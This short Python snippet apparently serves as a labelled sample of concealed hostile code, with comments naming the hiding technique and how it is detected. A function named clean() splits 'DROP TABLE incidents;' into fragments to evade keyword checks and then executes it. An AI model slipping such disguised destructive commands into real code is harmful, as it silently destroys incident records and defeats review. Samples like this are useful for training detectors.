# hides: a statement put together
# caught by: source
def clean(db, table):
    db.execute("DR" + "OP TA" + "BLE " + "incidents;")
